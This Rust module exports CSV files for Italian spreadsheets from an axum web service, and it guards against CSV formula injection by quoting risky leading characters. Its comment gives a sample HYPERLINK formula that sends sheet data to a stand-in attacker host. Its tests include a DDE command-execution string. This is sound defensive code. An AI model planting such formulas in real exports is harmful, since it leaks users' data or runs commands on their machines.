//! CSV files for spreadsheets, as Italian offices open them: `;` between
//! fields (the comma is the decimal separator) and a UTF-8 byte order mark
//! so accents read correctly.
//!
//! Every CSV route writes through [`Sheet`], which neutralises formula
//! injection as OWASP recommends: a cell that starts with `=`, `+`, `-`,
//! `@`, a tab or a carriage return gets a leading `'`, so a spreadsheet shows
//! it as text instead of running it (a comment such as
//! `=HYPERLINK("http://evil.example/?leak="&A2;"Click")` would otherwise
//! leak the sheet on a click). Numbers we write ourselves (`-1,5`) stay
//! numbers: a plain number cannot be a formula.

use std::borrow::Cow;

use axum::http::{header, HeaderValue};
use axum::response::{IntoResponse, Response};

use crate::error::ApiError;

/// The UTF-8 byte order mark.
const BOM: &[u8] = b"\xEF\xBB\xBF";

/// A CSV file being written: BOM first, `;`-separated, every cell
/// neutralised (see the module documentation).
pub struct Sheet(csv::Writer<Vec<u8>>);

/// A new sheet.
pub fn writer() -> Sheet {
    Sheet(
        csv::WriterBuilder::new()
            .delimiter(b';')
            .from_writer(BOM.to_vec()),
    )
}

impl Sheet {
    /// Writes one row, each cell through [`neutralise`].
    pub fn write_record<I, T>(&mut self, record: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.0.write_record(
            record
                .into_iter()
                .map(|cell| neutralise(cell.as_ref()).into_owned()),
        )
    }
}

/// The finished file.
pub fn finish(sheet: Sheet) -> Result<Vec<u8>, csv::Error> {
    sheet
        .0
        .into_inner()
        .map_err(|e| csv::Error::from(e.into_error()))
}

/// `cell` as a spreadsheet may safely read it: a leading `'` when it starts
/// with a character that makes spreadsheets evaluate it, unless it is a
/// plain number.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let dangerous = cell
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if dangerous && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `-12` or `-12,5`: digits with an optional minus and decimal comma.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once(',').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// A decimal with a comma, as an Italian spreadsheet reads it.
pub fn decimal(value: f64, places: usize) -> String {
    format!("{value:.places$}").replace('.', ",")
}

/// The file as a download named `filename` (ASCII), never cached.
pub fn attachment(body: Result<Vec<u8>, csv::Error>, filename: &str) -> Result<Response, ApiError> {
    let body = body.map_err(ApiError::internal)?;
    let mut response = body.into_response();
    let headers = response.headers_mut();
    headers.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/csv; charset=utf-8"),
    );
    if let Ok(value) = HeaderValue::from_str(&format!("attachment; filename=\"{filename}\"")) {
        headers.insert(header::CONTENT_DISPOSITION, value);
    }
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    Ok(response)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_a_quote_and_numbers_do_not() {
        for (cell, expected) in [
            ("=1+2 Tributi", "'=1+2 Tributi"),
            ("+39 0461", "'+39 0461"),
            ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-1,5", "-1,5"),
            ("-12", "-12"),
            ("12,5", "12,5"),
            ("-", "'-"),
            ("-,5", "'-,5"),
            ("Tributi = 3", "Tributi = 3"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), expected, "{cell:?}");
        }
    }
}
